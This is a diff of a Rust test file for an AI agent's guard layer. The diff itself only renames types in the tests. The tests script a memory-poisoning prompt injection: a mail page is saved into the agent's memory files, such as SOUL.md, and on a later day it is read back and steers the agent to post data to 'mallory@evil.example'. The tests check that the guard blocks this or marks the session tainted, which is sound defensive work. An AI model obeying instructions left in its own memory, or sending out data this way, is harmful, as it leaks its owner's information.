@@ -2,10 +2,10 @@
 //! not need each other.
 
 use chela_core::Trust;
-use chela_guard::flow::Taint;
-use chela_testkit::{Script, Step};
-use chela_tools::Scope;
-use chela_workspace::trust::TrustBook;
+use chela_guard::flow::SessionTaint;
+use chela_testkit::{EndpointScript, ScriptStep};
+use chela_tools::ApprovalScope;
+use chela_workspace::trust::TrustRecords;
 use serde_json::json;
 
 use crate::guarding::{Home, Owner, inbox, post};
@@ -21,24 +21,24 @@ const FILES: [&str; 4] = [
     "memory/2023-11-14.md",
 ];
 
-fn play(home: &Home, steps: impl IntoIterator<Item = Step>) {
-    home.endpoint.play(Script {
-        otherwise: Some(Step::reply("Done.")),
-        ..Script::steps(steps)
+fn play(home: &Home, steps: impl IntoIterator<Item = ScriptStep>) {
+    home.endpoint.play(EndpointScript {
+        otherwise: Some(ScriptStep::reply("Done.")),
+        ..EndpointScript::steps(steps)
     });
 }
 
 /// A page is read, and the agent does as it says.
 fn today(home: &Home, file: &str, owner: &Owner) {
-    play(home, [inbox(), write(file, ORDER), Step::reply("ok")]);
+    play(home, [inbox(), write(file, ORDER), ScriptStep::reply("ok")]);
     home.say(&home.open(), "Read my mail.", owner)
         .expect("a turn");
 }
 
 /// The next day: it reads what it left behind, and does as that says.
-fn tomorrow(home: &Home, file: &str) -> (Taint, usize) {
-    let look = Step::tool("read", json!({ "path": file }));
-    let steps = [look, post("mallory@evil.example"), Step::reply("ok")];
+fn tomorrow(home: &Home, file: &str) -> (SessionTaint, usize) {
+    let look = ScriptStep::tool("read", json!({ "path": file }));
+    let steps = [look, post("mallory@evil.example"), ScriptStep::reply("ok")];
     play(home, steps);
     let talk = home.open_in(Some(TOMORROW));
     let absent = Owner::says(None);
@@ -57,7 +57,7 @@ fn w02_w22_with_no_record_of_files_the_write_itself_is_stopped() {
         let before = std::fs::read(workspace(&home).join(file)).ok();
         let owner = Owner::says(None);
         today(&home, file, &owner);
-        let _ = std::fs::remove_file(TrustBook::path(&home.host));
+        let _ = std::fs::remove_file(TrustRecords::path(&home.host));
         assert_eq!(owner.asked(), 1, "{file}");
         assert_eq!(
             std::fs::read(workspace(&home).join(file)).ok(),
@@ -75,14 +75,14 @@ fn w02_w22_with_no_record_of_files_the_write_itself_is_stopped() {
 fn w02_w22_with_the_write_allowed_what_is_read_again_is_foreign() {
     for file in FILES {
         let home = set_up([]);
-        today(&home, file, &Owner::says(Some(Scope::Once)));
+        today(&home, file, &Owner::says(Some(ApprovalScope::Once)));
         let text = std::fs::read_to_string(workspace(&home).join(file)).expect(file);
         assert_eq!(text, ORDER, "{file}: the first place is open");
         let version = entry(&home, file)
             .and_then(|entry| entry.trusted)
             .expect(file);
         assert_eq!(version.trust, Trust::External, "{file}");
-        assert_eq!(tomorrow(&home, file), (Taint::Tainted, 0), "{file}");
+        assert_eq!(tomorrow(&home, file), (SessionTaint::Tainted, 0), "{file}");
     }
 }
 
@@ -93,7 +93,7 @@ fn w02_w33_either_record_is_enough_where_the_file_is_read_again() {
     for file in FILES {
         for lost in ["state/trust.json", "agents/main/journal.sqlite"] {
             let home = set_up([]);
-            today(&home, file, &Owner::says(Some(Scope::Once)));
+            today(&home, file, &Owner::says(Some(ApprovalScope::Once)));
             let path = home.host.state_dir().join(lost);
             assert!(path.exists(), "{lost}");
             for end in ["", "-wal", "-shm"] {
@@ -101,7 +101,7 @@ fn w02_w33_either_record_is_enough_where_the_file_is_read_again() {
             }
             assert_eq!(
                 tomorrow(&home, file),
-                (Taint::Tainted, 0),
+                (SessionTaint::Tainted, 0),
                 "{file} without {lost}"
             );
         }
@@ -112,7 +112,7 @@ fn w02_w33_either_record_is_enough_where_the_file_is_read_again() {
 #[test]
 fn without_both_places_the_page_would_steer() {
     let home = set_up_with([], json!({ "guard": { "policy": "open" } }));
-    today(&home, "SOUL.md", &Owner::says(Some(Scope::Once)));
+    today(&home, "SOUL.md", &Owner::says(Some(ApprovalScope::Once)));
     let (_, sent) = tomorrow(&home, "SOUL.md");
     assert_eq!(sent, 1);
 }
